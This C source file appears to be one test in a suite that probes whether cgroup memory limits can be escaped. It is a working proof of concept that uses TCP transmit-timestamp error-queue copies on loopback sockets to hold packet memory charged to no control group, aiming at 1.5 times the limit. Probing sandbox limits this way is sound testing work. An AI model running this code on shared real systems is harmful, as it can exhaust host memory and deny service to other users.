/* Has TCP tell the time of sending: of each packet that was acknowledged a copy, with its data, waits in the queue of errors, and is
 * charged to nobody.
 * goal: half as much memory again as the limit
 * stopped by: the ledger of pages that no control group pays for; since Linux 6.18 a setting of the network namespace as well
 * first: ledger network
 * second: -
 * alone: before Linux 6.18 the setting is the host's
 * ends: exit, memory-limit
 */
#include "attack.h"
#include <linux/errqueue.h>
#include <linux/net_tstamp.h>
#include <netinet/tcp.h>
int main(void) {
    static char data[65536], sink[1 << 20];
    size_t wanted = figure("ATTACK_MEMORY") / 2 * 3, got = 0, sent = 0;
    struct sockaddr_in place = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    socklen_t size = sizeof place;
    int all = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (all < 0 || bind(all, (void *)&place, size) || listen(all, 100) || getsockname(all, (void *)&place, &size)) return tried();
    many_descriptors();
    for (int i = 0; i < 400 && sent < wanted * 16; i++) {
        int one = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), on = 1, space = 64 << 20;
        int flags = SOF_TIMESTAMPING_TX_ACK | SOF_TIMESTAMPING_TX_SOFTWARE | SOF_TIMESTAMPING_TX_SCHED | SOF_TIMESTAMPING_SOFTWARE;
        setsockopt(one, SOL_SOCKET, SO_RCVBUF, &space, sizeof space);
        setsockopt(one, SOL_SOCKET, SO_TIMESTAMPING, &flags, sizeof flags);
        setsockopt(one, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
        if (one < 0 || connect(one, (void *)&place, size)) break;
        int other = accept(all, NULL, NULL);
        for (int k = 0; k < 200; k++) {
            ssize_t part = send(one, data, sizeof data, MSG_DONTWAIT);
            if (part <= 0) break;
            sent += part;
            for (ssize_t taken; part > 0 && (taken = recv(other, sink, sizeof sink, 0)) > 0;) part -= taken;
        }
        close(other);
        /* What waits has its data with it, or has none: one look tells. */
        char control[512];
        struct iovec into = { sink, sizeof sink };
        struct msghdr message = { .msg_iov = &into, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
        ssize_t each = recvmsg(one, &message, MSG_ERRQUEUE | MSG_DONTWAIT);
        if (each > 0) got = sent;
    }
    if (got >= wanted) reached("%zu bytes were sent, and wait", got);
    return tried();
}
